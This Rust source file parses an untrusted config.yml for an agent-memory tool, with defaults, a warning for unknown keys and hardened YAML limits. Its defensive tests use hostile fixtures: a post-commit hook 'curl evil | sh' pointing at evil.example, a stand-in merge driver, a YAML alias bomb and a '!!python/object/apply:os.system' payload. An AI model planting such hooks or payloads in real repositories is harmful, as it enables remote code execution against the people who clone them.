//! Settings: `config.yml`, every key optional, nothing in it acted upon.
//!
//! The file comes with the repository and is untrusted: it may choose numbers
//! and names, and never a command, an address or a path to run.

use std::collections::BTreeMap;

use serde::Deserialize;
use serde::de::DeserializeOwned;
use serde_json::{Map, Value};
use twining_model::{EvidenceSource, limits, text};

use crate::disk::layout::{CONFIG, Layout};
use crate::error::StoreError;

/// The format version this program writes.
pub const VERSION: u32 = 1;

/// How much each signal counts.
const WEIGHTS: [(&str, f64); 4] =
    [("recency", 0.3), ("relevance", 0.4), ("decision_confidence", 0.2), ("warning_boost", 0.1)];

/// Groups of settings, each with the value it has where the file leaves it out.
macro_rules! settings {
    ($(
        $(#[$about:meta])*
        pub struct $group:ident { $($(#[$key_about:meta])* pub $key:ident: $kind:ty = $default:expr,)* }
    )*) => {$(
        $(#[$about])*
        #[derive(Clone, Debug, PartialEq, Deserialize)]
        #[serde(default)]
        pub struct $group {
            $($(#[$key_about])* pub $key: $kind,)*
        }

        impl Default for $group {
            fn default() -> Self {
                Self { $($key: $default,)* }
            }
        }
    )*};
}

settings! {
    /// The settings of a project, with defaults for what it leaves out.
    pub struct Config {
        /// Format version of the folder.
        pub version: u32 = VERSION,
        /// What to call the project; empty for the directory's name.
        pub project_name: String = String::new(),
        /// When the board is tidied.
        pub archive: ArchiveSettings = ArchiveSettings::default(),
        /// How context is put together.
        pub context_assembly: ContextAssemblySettings = ContextAssemblySettings::default(),
        /// How records are searched.
        pub search: SearchSettings = SearchSettings::default(),
        /// Where reviewed knowledge is.
        pub knowledge: KnowledgeSettings = KnowledgeSettings::default(),
        /// `human`: contradictions are shown to a person.
        pub conflict_resolution: String = "human".to_owned(),
        /// Which tools are offered.
        pub tools: ToolSettings = ToolSettings::default(),
        /// How features are worked through.
        pub workflow: WorkflowSettings = WorkflowSettings::default(),
        /// When an agent counts as there.
        pub agents: AgentSettings = AgentSettings::default(),
        /// How long a delegation waits.
        pub delegations: DelegationSettings = DelegationSettings::default(),
        /// The team's repository that this project belongs to; a label that is compared, no address.
        pub team: String = String::new(),
        /// `shared` or `separate`: whether linked worktrees share one memory.
        pub worktrees: String = "shared".to_owned(),
        /// `scoped` or `shared`: whether a record of a branch that is not merged counts elsewhere.
        pub branches: String = "scoped".to_owned(),
        /// How records are held against the code they speak of.
        pub code: CodeSettings = CodeSettings::default(),
        /// What was odd about the file, for `status`.
        #[serde(skip)]
        pub notes: Vec<String> = Vec::new(),
    }

    /// How records are held against the code they speak of.
    pub struct CodeSettings {
        /// Whether source files are read; without, anchors are not made and not checked.
        pub index: bool = true,
        /// When an agent that made a record doubtful is asked about it: `stop`, `commit` or `off`.
        pub ask: String = "stop".to_owned(),
    }

    /// When the board is tidied.
    pub struct ArchiveSettings {
        /// Whether a commit queues an archive.
        pub auto_archive_on_commit: bool = true,
        /// Whether an agent may archive when the task changes.
        pub auto_archive_on_context_switch: bool = true,
        /// What an archive that nobody called for leaves on the board: entries younger than this.
        pub min_age_hours: u64 = 24,
        /// From how many entries on `status` asks for an archive.
        pub max_blackboard_entries_before_archive: u64 = 500,
    }

    /// How context is put together.
    pub struct ContextAssemblySettings {
        /// The budget when none is given.
        pub default_max_tokens: u64 = 4000,
        /// How much each signal counts; they sum to 1.
        pub priority_weights: BTreeMap<String, f64> = WEIGHTS.map(|(name, weight)| (name.to_owned(), weight)).into(),
    }

    /// How records are searched.
    pub struct SearchSettings {
        /// Whether also by meaning, or by words alone.
        pub embeddings: bool = true,
        /// How long a question waits for the few vectors that are missing after a write.
        pub wait_ms: u64 = 150,
    }

    /// Where reviewed knowledge is.
    pub struct KnowledgeSettings {
        /// A DOT file in the project; empty for the usual places.
        pub path: String = String::new(),
    }

    /// Which tools are offered.
    pub struct ToolSettings {
        /// `full`, `lite`, or groups.
        pub mode: String = "full".to_owned(),
    }

    /// How features are worked through.
    pub struct WorkflowSettings {
        /// Whether hooks drive the loop without being asked.
        pub auto: bool = false,
        /// After how many failed tests a feature waits for a person.
        pub max_test_failures: u32 = 2,
        /// The weakest evidence by which a feature becomes tested; unset, `seen` where a
        /// host's hook reports tool results, else `told`.
        pub tested_needs: Option<EvidenceSource> = None,
    }

    /// When an agent counts as there, and how long it may hold a part of the project.
    pub struct AgentSettings {
        /// When it counts as there.
        pub liveness: Liveness = Liveness::default(),
        /// How long a claim holds when it says nothing, in seconds.
        pub claim_seconds: u64 = 30 * 60,
    }

    /// When an agent counts as there.
    #[derive(Copy)]
    pub struct Liveness {
        /// After so many milliseconds without a call it is idle.
        pub idle_after_ms: u64 = 5 * 60 * 1000,
        /// After so many it is gone.
        pub gone_after_ms: u64 = 30 * 60 * 1000,
    }

    /// How long a delegation waits.
    pub struct DelegationSettings {
        /// By urgency.
        pub timeouts: DelegationTimeouts = DelegationTimeouts::default(),
    }

    /// How long a delegation waits, by its urgency.
    #[derive(Copy)]
    pub struct DelegationTimeouts {
        /// `high`.
        pub high_ms: u64 = 5 * 60 * 1000,
        /// `normal`.
        pub normal_ms: u64 = 30 * 60 * 1000,
        /// `low`.
        pub low_ms: u64 = 4 * 60 * 60 * 1000,
    }
}

impl Config {
    /// Reads the folder's settings. A broken file gives the defaults and a note;
    /// only a link or a device in its place is an error.
    pub fn load(layout: &Layout) -> Result<Self, StoreError> {
        let Some(handle) = layout.top.open(CONFIG)? else { return Ok(Self::default()) };
        match handle.read_all(limits::CONFIG_BYTES) {
            Ok(bytes) => Ok(Self::parse(&bytes)),
            Err(StoreError::Damaged { what }) => {
                // Too large to be read, it may still be of a newer version, and must not be written over.
                let version = handle
                    .read_all(VERSION_WITHIN)
                    .ok()
                    .and_then(|bytes| version_line(&bytes))
                    .unwrap_or(VERSION);
                Ok(Self {
                    version,
                    notes: vec![format!("{what}; defaults are used")],
                    ..Self::default()
                })
            }
            Err(error) => Err(error),
        }
    }

    /// Reads settings from YAML.
    #[must_use]
    pub fn parse(bytes: &[u8]) -> Self {
        // Some editors begin a file with a mark that is no part of its first key.
        let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
        let parsed = std::str::from_utf8(bytes).map_err(|e| e.to_string()).and_then(|text| {
            if text.trim().is_empty() {
                Ok(Self::default())
            } else {
                from_yaml(text).or_else(|why| crate::format::config::read_valid_keys(text, &why))
            }
        });
        match parsed {
            Ok(mut config) => {
                config.normalise_weights();
                config.note_unknown_keys(bytes);
                config
            }
            Err(why) => Self {
                // A version that cannot be read may be a newer one: do not write over it.
                version: version_line(bytes).unwrap_or(VERSION),
                notes: vec![format!(
                    "config.yml cannot be read and defaults are used: {}",
                    twining_model::text::excerpt(&why, 200)
                )],
                ..Self::default()
            },
        }
    }

    /// Reports unknown keys: a user who put an address, a command or a hook there, or mistyped a
    /// setting, should know.
    fn note_unknown_keys(&mut self, bytes: &[u8]) {
        let text = String::from_utf8_lossy(bytes);
        let keys = text
            .lines()
            .filter(|line| !line.starts_with([' ', '\t', '#', '-']))
            .filter_map(|line| line.split_once(':'));
        let unknown: Vec<String> = keys
            .map(|(key, _)| key.trim().trim_matches(['"', '\'']))
            .filter(|key| !key.is_empty() && !is_setting(key))
            .map(|key| format!("`{}`", twining_model::text::excerpt(key, 40)))
            .take(MAX_NAMED_KEYS)
            .collect();
        if !unknown.is_empty() {
            self.notes.push(format!(
                "config.yml: {} is not a setting and has no effect",
                unknown.join(", ")
            ));
        }
    }

    fn normalise_weights(&mut self) {
        let weights = &mut self.context_assembly.priority_weights;
        weights.retain(|_, weight| weight.is_finite() && *weight >= 0.0);
        let sum: f64 = weights.values().sum();
        if weights.is_empty() || sum <= 0.0 {
            *weights = ContextAssemblySettings::default().priority_weights;
            self.notes.push(
                "config.yml: priority_weights has no positive weight; defaults are used".to_owned(),
            );
        } else if (sum - 1.0).abs() > 0.01 {
            weights.values_mut().for_each(|weight| *weight /= sum);
            self.notes.push(format!(
                "config.yml: priority_weights sum to {sum:.2}; they are scaled to 1"
            ));
        }
    }
}

/// Keys a project may set; the last ones are of the TypeScript server and do nothing here.
const SETTINGS: &str = "version project_name archive context_assembly search knowledge conflict_resolution tools workflow agents \
     delegations worktrees branches team code embedding_model instructions analytics dashboard";
/// Keys that do nothing that are named.
const MAX_NAMED_KEYS: usize = 5;

fn is_setting(key: &str) -> bool {
    SETTINGS.split(' ').any(|known| known == key)
}

fn from_yaml<T: DeserializeOwned>(text: &str) -> Result<T, String> {
    let options = serde_saphyr::options! {
        budget: serde_saphyr::budget! {
            max_reader_input_bytes: Some(limits::CONFIG_BYTES),
            max_anchors: 0,
            max_aliases: 0,
            max_depth: limits::JSON_DEPTH,
            max_nodes: 10_000,
        },
    };
    serde_saphyr::from_str_with_options(text, options).map_err(|e| e.to_string())
}

/// Bytes of a `config.yml` that are looked through for its version alone.
const VERSION_WITHIN: usize = 16 * 1024 * 1024;

/// The version as a line of its own, for a file whose rest does not parse. One
/// that is no number we know of can only be newer than ours.
fn version_line(bytes: &[u8]) -> Option<u32> {
    let text = String::from_utf8_lossy(bytes);
    let value = text.lines().find_map(|line| line.strip_prefix("version:")?.split('#').next())?;
    let value = value.trim().trim_matches(['"', '\'']);
    let whole = value.split('.').next().unwrap_or(value);
    Some(if whole.is_empty() { VERSION } else { whole.parse().unwrap_or(u32::MAX) })
}

/// Bad keys that are named.
const NAMED: usize = 5;

/// Reads what can be read; `why` is what was wrong with the whole.
pub(super) fn read_valid_keys(yaml: &str, why: &str) -> Result<Config, String> {
    let Ok(Value::Object(all)) = from_yaml::<Value>(yaml) else { return Err(why.to_owned()) };
    let mut bad = Vec::new();
    let readable = readable_keys(all, "", &|value| value, &mut bad);
    let mut config = parsed(&Value::Object(readable))?;
    // A version that cannot be read may be a newer one: do not write over it.
    if bad.iter().any(|(key, _)| key == "version") {
        config.version = version_line(yaml.as_bytes()).unwrap_or(VERSION);
    }
    let more = bad.len().saturating_sub(NAMED);
    config.notes.extend(bad.into_iter().take(NAMED).map(|(key, why)| {
        let (key, why) =
            (text::excerpt(&key, 80), text::excerpt(why.lines().next().unwrap_or_default(), 120));
        format!("config.yml: `{key}` cannot be read, so its default is used: {why}")
    }));
    if more > 0 {
        config.notes.push(format!(
            "config.yml: {more} more keys cannot be read, so their defaults are used"
        ));
    }
    Ok(config)
}

/// Returns the readable keys, each at its path.
fn readable_keys(
    keys: Map<String, Value>,
    above: &str,
    place: &dyn Fn(Value) -> Value,
    bad: &mut Vec<(String, String)>,
) -> Map<String, Value> {
    let mut readable = Map::new();
    for (key, value) in keys {
        let path = if above.is_empty() { key.clone() } else { format!("{above}.{key}") };
        let alone = |value: Value| place(Value::Object(Map::from_iter([(key.clone(), value)])));
        match (parsed(&alone(value.clone())), value) {
            (Ok(_), value) => drop(readable.insert(key, value)),
            (Err(why), Value::Object(inner)) => {
                let inner = Value::Object(readable_keys(inner, &path, &alone, bad));
                // An object where none is wanted is bad as a whole.
                if parsed(&alone(inner.clone())).is_ok() {
                    readable.insert(key, inner);
                } else {
                    bad.push((path, why));
                }
            }
            // No value is set, so the default applies.
            (Err(_), Value::Null) => {}
            (Err(why), _) => bad.push((path, why)),
        }
    }
    readable
}

/// The same reader as for the whole file: JSON is YAML too.
fn parsed(value: &Value) -> Result<Config, String> {
    from_yaml(&value.to_string())
}

#[cfg(test)]
mod sieve_tests {
    use super::*;
    use crate::format::config::{SearchSettings, ToolSettings};
    use twining_testcases::each;

    #[test]
    fn one_bad_value_has_its_default_and_every_other_key_holds() {
        let config = Config::parse(
            b"project_name: shop\nsearch: {wait_ms: soon, embeddings: false}\nagents:\n  claim_seconds: -1\n  liveness: {idle_after_ms: 7}\ntools: 5\nworktrees: separate\n",
        );
        assert_eq!((config.project_name.as_str(), config.worktrees.as_str()), ("shop", "separate"));
        assert_eq!(
            config.search,
            SearchSettings { embeddings: false, ..SearchSettings::default() }
        );
        assert_eq!(
            (config.agents.claim_seconds, config.agents.liveness.idle_after_ms),
            (30 * 60, 7)
        );
        assert_eq!(config.tools, ToolSettings::default());
        assert_eq!(config.notes.len(), 3, "{:?}", config.notes);
        each(["`search.wait_ms`", "`agents.claim_seconds`", "`tools`"], |key| {
            assert!(
                config.notes.iter().any(|note| note.contains(key)),
                "{key}: {:?}",
                config.notes
            );
        });
    }

    #[test]
    fn a_mark_at_the_start_is_no_part_of_the_first_key() {
        let config = Config::parse(b"\xEF\xBB\xBFproject_name: shop\n");
        assert_eq!((config.project_name.as_str(), config.notes.len()), ("shop", 0));
        assert_eq!(Config::parse(b"\xEF\xBB\xBFversion: 2\narchive: [\n").version, 2);
    }
}

#[cfg(test)]
mod tests {
    use twining_testcases::each;

    use std::time::{Duration, Instant};

    use super::*;

    #[test]
    fn an_empty_file_and_a_partial_one_get_the_defaults() {
        assert_eq!(Config::parse(b""), Config::default());
        let config = Config::parse(
            b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n",
        );
        assert_eq!(config.archive.max_blackboard_entries_before_archive, 7);
        assert!(config.archive.auto_archive_on_commit);
    }

    #[test]
    fn s10_a_cloned_config_sets_no_address_key_hook_or_driver_and_says_so() {
        let hostile = b"endpoint: https://evil.example\nhooks: {post-commit: 'curl evil | sh'}\nmerge_driver: ./evil\nmodel_url: http://x\nproject_name: shop\n";
        let config = Config::parse(hostile);
        let named = Config {
            project_name: "shop".to_owned(),
            notes: config.notes.clone(),
            ..Config::default()
        };
        assert_eq!(config, named, "a key that is no setting changes nothing");
        assert_eq!(
            config.notes,
            [
                "config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is not a setting and has no effect"
            ]
        );
    }

    #[test]
    fn every_setting_is_known_as_one() {
        let source = include_str!("config.rs");
        let block = source
            .split("pub struct Config {")
            .nth(1)
            .and_then(|rest| rest.split("\n    }\n").next())
            .expect("the struct");
        let fields: Vec<&str> = block
            .lines()
            .filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next())
            .collect();
        assert!(fields.len() > 8, "{fields:?}");
        each(fields.into_iter().filter(|field| *field != "notes"), |field| {
            assert!(is_setting(field), "add `{field}` to SETTINGS");
        });
    }

    #[test]
    fn an_unknown_grade_of_evidence_has_its_default_and_is_named() {
        assert_eq!(
            Config::parse(b"workflow: {tested_needs: ci}\n").workflow.tested_needs,
            Some(EvidenceSource::Ci)
        );
        let config = Config::parse(b"workflow: {tested_needs: trusted, auto: true}\n");
        assert_eq!((config.workflow.tested_needs, config.workflow.auto), (None, true));
        assert!(
            config.notes.iter().any(|note| note.contains("`workflow.tested_needs`")),
            "{:?}",
            config.notes
        );
    }

    #[test]
    fn weights_that_do_not_sum_to_one_are_scaled_and_said_so() {
        let config =
            Config::parse(b"context_assembly:\n  priority_weights: {recency: 1, relevance: 3}\n");
        assert_eq!(config.context_assembly.priority_weights["relevance"], 0.75);
        assert_eq!(config.notes.len(), 1);
    }

    #[test]
    fn a_newer_version_is_seen_even_when_the_rest_does_not_parse() {
        assert_eq!(Config::parse(b"version: 2\narchive: [what is this\n").version, 2);
        assert_eq!(Config::parse(b"version: 2.0\n").version, 2);
        assert_eq!(Config::parse(b"version: 1.0\n").version, 1);
        assert_eq!(Config::parse(b"version:\narchive: [\n").version, VERSION);
        each(["v2", "99999999999999999999"], |invalid| {
            assert_eq!(
                Config::parse(format!("version: {invalid}\n").as_bytes()).version,
                u32::MAX,
                "{invalid}"
            );
        });
    }

    #[test]
    fn hostile_yaml_is_an_error_and_not_a_bomb() {
        let mut bomb = String::from("a: &a [x,x,x,x,x,x,x,x,x]\n");
        for i in 0..9 {
            bomb.push_str(&format!("b{i}: &b{i} [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"));
        }
        let deep = "[".repeat(60_000);
        for hostile in [
            bomb.as_str(),
            deep.as_str(),
            "x: !!python/object/apply:os.system [ls]",
            "a: &a\n  <<: *a\n",
            "{",
            "\u{0}",
            "- - - : : :",
        ] {
            let started = Instant::now();
            let config = Config::parse(hostile.as_bytes());
            assert!(started.elapsed() < Duration::from_secs(5));
            assert_eq!(config.archive, ArchiveSettings::default());
        }
    }
}
